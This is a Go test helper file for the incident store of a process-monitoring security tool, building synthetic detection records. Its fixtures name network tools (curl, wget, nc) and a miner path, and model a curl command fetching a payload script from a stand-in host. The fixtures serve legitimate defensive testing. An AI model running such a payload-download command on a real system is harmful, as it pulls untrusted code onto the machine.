package store

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/procwatch/procwatch/event"
	"github.com/procwatch/procwatch/rules"
)

// TestMain lets the test binary double as the child processes of the crash
// and lock tests: with PROCWATCH_STORE_HELPER set it runs that helper
// instead of the tests.
func TestMain(m *testing.M) {
	if h := os.Getenv(helperEnv); h != "" {
		os.Exit(runHelper(h))
	}
	code := m.Run()
	cleanupBenchDB()
	os.Exit(code)
}

// baseTime is a fixed instant for deterministic fixtures: 2026-03-01
// 12:34:56 UTC.
var baseTime = time.Date(2026, 3, 1, 12, 34, 56, 789, time.UTC)

var fixtureExes = []string{"/usr/bin/curl", "/usr/bin/wget", "/usr/bin/nc", "/usr/sbin/sshd", "/usr/bin/python3", "/tmp/.x/miner"}
var fixtureRules = []string{"network-tools", "shell-from-service", "unexpected-root"}

// fixture returns a realistic incident: exe, five args, four ancestors, a
// cwd and a cgroup, the shape the size budget was set for. i varies the
// exe, rule, severity and outcome.
func fixture(t time.Time, i int) rules.Incident {
	exe := fixtureExes[i%len(fixtureExes)]
	rule := fixtureRules[i%len(fixtureRules)]
	sev := rules.Severity(1 + i%5)
	outcome := event.Success
	if i%7 == 0 {
		outcome = event.Failure
	}
	typ := rules.TypeBinExecution
	if rule == "unexpected-root" {
		typ = rules.TypeRootEscalation
	}
	return rules.Incident{
		ID:       rules.NewID(t),
		Time:     t,
		Host:     "web-01",
		Rule:     rule,
		Type:     typ,
		Outcome:  outcome,
		Severity: sev,
		Summary:  event.Text(fmt.Sprintf("%s ran as uid 1000 from /usr/bin/bash (#%d)", filepath.Base(exe), i)),
		Status:   rules.StatusOpen,
		Process: event.Event{
			Type: event.TypeExec, Time: t,
			PID: uint32(10000 + i%50000), TID: uint32(10000 + i%50000), PPID: 4242, UID: 1000, EUID: 1000, GID: 1000, EGID: 1000,
			AUID: 1000, Comm: event.Text(filepath.Base(exe)), Exe: event.Text(exe), Filename: event.Text(exe),
			Args: []event.Text{event.Text(filepath.Base(exe)), "-fsSL", "--retry", "3", event.Text(fmt.Sprintf("https://example.com/payload-%d.sh", i))},
			Cwd:  "/home/alice/projects/site", TTY: "pts/3",
			Cgroup:    "/user.slice/user-1000.slice/session-12.scope",
			ParentExe: "/usr/bin/bash",
			Ancestors: []event.Ancestor{{PID: 4242, Exe: "/usr/bin/bash"}, {PID: 4100, Exe: "/usr/sbin/sshd"}, {PID: 900, Exe: "/usr/sbin/sshd"}, {PID: 1, Exe: "/usr/lib/systemd/systemd"}},
			Outcome:   outcome,
		},
		Count:     1,
		FirstSeen: t,
		LastSeen:  t,
	}
}

// openTemp opens a new store in a temporary directory.
func openTemp(t testing.TB, opts Options) (*Store, string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "procwatch.db")
	s, err := Open(path, opts)
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	t.Cleanup(func() { s.Close() })
	return s, path
}

// putAll queues incs and commits them.
func putAll(t testing.TB, s *Store, incs []rules.Incident) {
	t.Helper()
	for _, inc := range incs {
		s.Put(inc)
	}
	if err := s.Flush(); err != nil {
		t.Fatalf("Flush: %v", err)
	}
}

// fixtures makes n incidents one second apart starting at start.
func fixtures(start time.Time, n int) []rules.Incident {
	out := make([]rules.Incident, n)
	for i := range out {
		out[i] = fixture(start.Add(time.Duration(i)*time.Second), i)
	}
	return out
}
